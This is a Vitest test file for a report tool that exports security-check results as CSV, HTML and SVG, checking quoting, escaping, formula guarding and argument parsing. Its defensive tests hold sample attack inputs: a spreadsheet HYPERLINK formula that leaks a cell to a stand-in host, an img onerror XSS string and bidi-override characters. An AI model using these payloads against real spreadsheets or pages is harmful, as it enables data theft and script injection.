import { describe, expect, it } from 'vitest';
import { parseCsv } from '../../test/helpers/csv.js';
import { parseInstant } from '../instant.js';
import { renderDailyChart } from './chart.js';
import { csvField, needsFormulaGuard, toCsv } from './csv.js';
import { escapeHtml, renderPage } from './html.js';
import { parseReportArgs, UsageError } from './options.js';
import { instantText } from './queries.js';
import { formatCell, type ReportTable, showControls, tableOf } from './table.js';

const table = (rows: string[][]): ReportTable => ({
  name: 't',
  title: 'T',
  columns: [
    { key: 'a', label: 'A' },
    { key: 'b', label: 'B' },
  ],
  rows,
  total: rows.length,
});

describe('CSV (RFC 4180)', () => {
  it('quotes exactly the fields that need it, doubling quotes', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('')).toBe('');
    expect(csvField('a,b')).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('line\nbreak')).toBe('"line\nbreak"');
    expect(csvField('cr\rhere')).toBe('"cr\rhere"');
    expect(csvField('中文，逗号')).toBe('中文，逗号');
    expect(csvField(' spaced ')).toBe(' spaced ');
  });

  it('ends every record with CRLF, header first, and reads back to the same cells', () => {
    const rows = [
      ['该基线检查, "SSH"', 'one\r\ntwo\nthree\r'],
      ['', '🔒 emoji'],
    ];
    const text = toCsv(table(rows)).text;
    expect(text).toBe('a,b\r\n"该基线检查, ""SSH""","one\r\ntwo\nthree\r"\r\n,🔒 emoji\r\n');
    expect(parseCsv(text)).toEqual([['a', 'b'], ...rows]);
  });

  it('guards cells a spreadsheet would run as a formula (OWASP), never a plain number', () => {
    const leak = '=HYPERLINK("http://x.example/?leak="&A1,"Fix")';
    expect(csvField(leak)).toBe(`"'=HYPERLINK(""http://x.example/?leak=""&A1,""Fix"")"`);
    expect(parseCsv(`${csvField(leak)}\r\n`)).toEqual([[`'${leak}`]]);
    for (const [v, out] of [
      ['+cmd', "'+cmd"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\tx', "'\tx"],
      ['\rx', `"'\rx"`],
      ['-1e3', "'-1e3"],
      ['-', "'-"],
      ['-3', '-3'],
      ['+1.5', '+1.5'],
      ['12', '12'],
      ['a=b', 'a=b'],
      [' =x', ' =x'],
    ] as const) {
      expect(csvField(v), JSON.stringify(v)).toBe(out);
    }
    const t = table([
      ['=1+1', '-5'],
      ['@x', 'ok'],
    ]);
    expect(toCsv(t)).toEqual({ text: "a,b\r\n'=1+1,-5\r\n'@x,ok\r\n", guarded: 2 });
    expect(needsFormulaGuard('-0.25')).toBe(false);
  });

  it('shows acting characters as \\uXXXX and keeps TAB, LF, CR and other text', () => {
    expect(showControls('\u001b[31mred\u0007\u0008\u0000|\u007f\u009b')).toBe(
      '\\u001b[31mred\\u0007\\u0008\\u0000|\\u007f\\u009b',
    );
    expect(showControls('\u202eevil\u202c \u2066x\u2069 \u200e\u200f \u202a\u202b\u202d')).toBe(
      '\\u202eevil\\u202c \\u2066x\\u2069 \\u200e\\u200f \\u202a\\u202b\\u202d',
    );
    expect(showControls('a\tb\r\nc مرحبا 中文 🔒')).toBe('a\tb\r\nc مرحبا 中文 🔒');
    const t = tableOf({ name: 't', title: 'T', columns: [{ key: 'a', label: 'A' }] }, [{ a: '\u001bx' }]);
    expect(t.rows).toEqual([['\\u001bx']]);
    expect(t.total).toBe(1);
  });

  it('reads instants from PostgreSQL as text with their microseconds', () => {
    expect(instantText('2026-03-01 00:00:00.275123+00')).toBe('2026-03-01T00:00:00.275123Z');
    expect(instantText('2026-03-01 00:00:00.2751+00')).toBe('2026-03-01T00:00:00.275100Z');
    expect(instantText('2026-03-01 00:00:00.275+00')).toBe('2026-03-01T00:00:00.275Z');
    expect(instantText('2026-03-01 00:00:00.275000+00')).toBe('2026-03-01T00:00:00.275Z');
    expect(instantText('2026-03-01 00:00:00+00')).toBe('2026-03-01T00:00:00.000Z');
  });

  it('formats cells without locale or time zone', () => {
    expect(formatCell(new Date(Date.UTC(2026, 2, 1, 8, 5, 3, 7)))).toBe('2026-03-01T08:05:03.007Z');
    expect(formatCell(1234567)).toBe('1234567');
    expect(formatCell('12345678901234567890')).toBe('12345678901234567890');
    expect(formatCell(null)).toBe('');
    expect(formatCell(false)).toBe('false');
  });
});

describe('HTML', () => {
  it('escapes markup, quotes and CR', () => {
    expect(escapeHtml(`<script>alert("x")</script> & 'y'\r\n`)).toBe(
      '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt; &amp; &#39;y&#39;&#13;\n',
    );
  });

  it('puts every database text into the page escaped, and fetches nothing', () => {
    const page = renderPage(
      {
        asOf: '2026-03-01T00:00:00.000Z',
        days: 90,
        periodFrom: '2025-12-01T00:00:00.000Z',
        filters: { target: ['<t>'], enterpriseProject: null, imageType: null },
        toolVersion: '0.1.0',
        verify: 'not available',
        brokenLinks: null,
      },
      [table([['<img src=x onerror=alert(1)>', '"中文"']])],
      '<svg></svg>',
      't',
    );
    expect(page).toContain('<td>&lt;img src=x onerror=alert(1)&gt;</td><td>&quot;中文&quot;</td>');
    expect(page).toContain('<dd data-meta="target">&lt;t&gt;</dd>');
    expect(page).not.toMatch(/<script|<link|@import|url\(|src=["']?http/i);
    expect(page.indexOf('<svg></svg>')).toBeLessThan(page.indexOf('data-table="t"'));
  });
});

describe('the chart', () => {
  const points = ['2026-02-27', '2026-02-28'].flatMap((day, i) =>
    ['Critical', 'High', 'Medium', 'Low'].map((severity, j) => ({ day, severity, failedItems: i * 4 + j })),
  );

  it('renders the same SVG twice, with no script and no external reference', async () => {
    const a = await renderDailyChart(points);
    const b = await renderDailyChart(points);
    expect(a).toBe(b);
    expect(a.startsWith('<svg')).toBe(true);
    expect(a).not.toMatch(/<script|href="http|url\(http/);
    // One bar per day and severity (zero-height for 0), labelled with its value.
    const bars = [
      ...a.matchAll(/<path aria-label="day \(UTC\): ([\d-]+); failed check items: (\d+); severity: (\w+)/g),
    ];
    expect(bars.map((m) => `${m[1]} ${m[3]} ${m[2]}`)).toEqual(
      points.map((p) => `${p.day} ${p.severity} ${p.failedItems}`),
    );
  });

  it('does not depend on the time zone (days are ordinal text)', async () => {
    const before = process.env.TZ;
    const a = await renderDailyChart(points);
    process.env.TZ = 'Asia/Shanghai';
    try {
      expect(await renderDailyChart(points)).toBe(a);
    } finally {
      if (before === undefined) delete process.env.TZ;
      else process.env.TZ = before;
    }
  });
});

describe('report arguments', () => {
  it('accepts ISO instants with a zone only', () => {
    expect(parseInstant('2026-03-01T00:00:00Z')?.toISOString()).toBe('2026-03-01T00:00:00.000Z');
    expect(parseInstant('2026-03-01T08:00:00+08:00')?.toISOString()).toBe('2026-03-01T00:00:00.000Z');
    expect(parseInstant('2026-03-01T00:00Z')?.toISOString()).toBe('2026-03-01T00:00:00.000Z');
    for (const bad of [
      '2026-03-01',
      '2026-03-01T00:00:00',
      '2026-02-30T00:00:00Z',
      'yesterday',
      '2026-13-01T00:00:00Z',
    ]) {
      expect(parseInstant(bad), bad).toBeNull();
    }
  });

  it('names the flag and the expected form', () => {
    expect(() => parseReportArgs(['--as-of', '2026-03-01', '--out', 'x'])).toThrow(
      /--as-of "2026-03-01" is not an ISO 8601 instant with a zone \(expected e\.g\. 2026-03-01T00:00:00Z/,
    );
    expect(() => parseReportArgs(['--out', 'x'])).toThrow(UsageError);
    expect(() => parseReportArgs(['--as-of', '2026-03-01T00:00:00Z'])).toThrow(/--out is required/);
    expect(() => parseReportArgs(['--as-of', '2026-03-01T00:00:00Z', '--out', 'x', '--days', '0'])).toThrow(
      /--days "0" is not a whole number/,
    );
  });

  it('keeps the microseconds of --as-of and refuses finer instants and unknown image types', () => {
    const base = ['--out', 'x', '--as-of'];
    expect(parseReportArgs([...base, '2026-03-01T08:00:00.275123+08:00']).asOfText).toBe(
      '2026-03-01T00:00:00.275123Z',
    );
    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275Z']).asOfText).toBe('2026-03-01T00:00:00.275Z');
    expect(parseReportArgs([...base, '2026-03-01T00:00:00.275123000Z']).asOfText).toBe(
      '2026-03-01T00:00:00.275123Z',
    );
    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00.2751234Z'])).toThrow(
      /finer than a microsecond/,
    );
    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'privat_image'])).toThrow(
      /"privat_image" is not an image type \(did you mean private_image\?\)/,
    );
    expect(() => parseReportArgs([...base, '2026-03-01T00:00:00Z', '--image-type', 'docker'])).toThrow(
      /"docker" is not an image type; known: private_image,/,
    );
    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z']).allowBroken).toBe(false);
    expect(parseReportArgs([...base, '2026-03-01T00:00:00Z', '--allow-broken']).allowBroken).toBe(true);
  });

  it('takes filters repeated or comma-separated, sorted and unique', () => {
    const o = parseReportArgs([
      '--as-of=2026-03-01T00:00:00Z',
      '--out=x',
      '--image-type',
      'private_image,local_image',
      '--image-type',
      'private_image',
    ]);
    expect(o.imageTypes).toEqual(['local_image', 'private_image']);
    expect(o.targets).toBeNull();
    expect(o.days).toBe(90);
  });
});
